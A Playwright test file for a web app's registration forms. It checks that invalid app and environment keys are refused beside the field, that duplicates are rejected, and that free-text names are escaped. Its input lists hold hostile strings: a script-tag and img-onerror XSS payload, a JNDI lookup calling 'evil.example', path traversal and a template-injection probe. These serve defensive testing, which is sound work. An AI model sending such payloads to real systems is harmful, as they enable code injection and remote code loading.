// Names that are refused, typed by a person: the message stands beside the field, and what was typed stays.

import type { Page } from '@playwright/test';
import { api } from '../clients/api.ts';
import { expect, expectNoFaults, look, test } from '../fixtures.ts';
import { landscape, type Landscape } from '../landscape.ts';
import { signIn } from '../people.ts';
import { admin, adminToken, unique } from '../settings.ts';

expectNoFaults();

const refused: [string, string][] = [
  ['N01-empty', ''],
  ['N04-len-41', 'a'.repeat(41)],
  ['N05-dot', 'order.portal'],
  ['N10-outer-blank', ' order-portal '],
  ['N13-rtl-override', 'order\u202eportal'],
  ['N16-path-up', '../order'],
  ['N19-script-tag', '<script>alert(1)</script>'],
  ['N20-jndi', '${jndi:ldap://evil.example/a}'],
  ['N22-capital', 'Order-portal'],
  ['N29-lead-hyphen', '-order'],
  ['N31-zero-width-joiner', 'order\u200dportal'],
  ['N32-percent-encoded', 'order%2dportal'],
];

let page: Page;
let land: Landscape;

test.beforeAll(async ({ someone }) => {
  land = await landscape();
  page = await someone();
  await signIn(page, admin);
});

/** Sends what the browser itself would hold back. */
async function submit(name: string): Promise<number> {
  await page.locator('form:has(#f-key)').evaluate((form: HTMLFormElement) => (form.noValidate = true));
  const answer = page.waitForResponse((response) => response.request().method() === 'POST');
  await page.getByRole('button', { name, exact: true }).click();
  return (await answer).status();
}

async function fill(key: string): Promise<void> {
  const field = page.getByLabel('Key', { exact: true });
  await field.evaluate((input) => input.removeAttribute('maxlength'));
  await field.fill(key);
}

for (const [form, path, verb] of [
  ['app', () => '/apps/new', 'Register app'],
  ['environment', () => `/apps/${land.app}/environments/new`, 'Register environment'],
] as const) {
  test(`the key of an ${form} that breaks a rule is refused beside its field, and stays`, async () => {
    test.setTimeout(120_000);
    // Both forms share their fields and rules: for the second the short ones suffice.
    for (const [name, key] of form === 'app' ? refused : refused.slice(0, 4)) {
      await test.step(name, async () => {
        await page.goto(path());
        await fill(key);
        await page.getByLabel('Name', { exact: true }).fill('Kept as it was');
        expect(await submit(verb)).toBe(422);
        const field = page.getByLabel('Key', { exact: true });
        await expect(field).toHaveValue(key);
        await expect(field).toHaveAttribute('aria-invalid', 'true');
        await expect(page.locator('#f-key-error')).toHaveText(/^Key .*\.$/);
        await expect(field).toHaveAccessibleDescription(/Key /);
        await expect(page.getByLabel('Name', { exact: true })).toHaveValue('Kept as it was');
        await page.getByRole('alert').getByRole('link').first().click();
        await expect(page).toHaveURL(/#f-key$/);
      });
    }
    await look(page);
    const apps = await api(adminToken, 'GET', '/apps?q=Kept');
    expect(apps.items).toEqual([]);
    const app = await api(adminToken, 'GET', `/apps/${land.app}`);
    expect(app.environments).toHaveLength(1);
  });
}

test('a key of one character is taken, and one that is taken already is refused', async () => {
  await page.goto(`/apps/${land.app}/environments/new`);
  await fill('x');
  await page.getByLabel('Name', { exact: true }).fill('One');
  await submit('Register environment');
  await expect(page.getByText(`${land.app}.x is registered.`)).toBeVisible();

  await page.goto('/apps/new');
  await fill(land.app);
  await page.getByLabel('Name', { exact: true }).fill('Twin');
  expect(await submit('Register app')).toBe(409);
  await expect(page.locator('#f-key-error')).toBeVisible();
  expect((await api(adminToken, 'GET', `/apps/${land.app}`)).name).not.toBe('Twin');
});

test('a name of free text is shown as text', async () => {
  const key = `plain-${unique()}`;
  const name = '<img src=x onerror=alert(1)> ${7*7}';
  await page.goto('/apps/new');
  await fill(key);
  await page.getByLabel('Name', { exact: true }).fill(name);
  await submit('Register app');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
  await expect(page).toHaveTitle(`${name} · Event Broker Manager`);
  await expect(page.locator('main img')).toHaveCount(0);
});

test('contacts that are no e-mail addresses are named beside their field', async () => {
  await page.goto('/apps/new');
  await fill(`contacts-${unique()}`);
  await page.getByLabel('Name', { exact: true }).fill('Contacts');
  await page.getByLabel(/Technical contacts/).fill('ann@example.test\nnobody');
  expect(await submit('Register app')).toBe(422);
  await expect(page.locator('#f-contacts-error')).toContainText('“nobody” is not an e-mail address.');
  await expect(page.getByLabel(/Technical contacts/)).toHaveValue('ann@example.test\nnobody');
  await look(page);
});
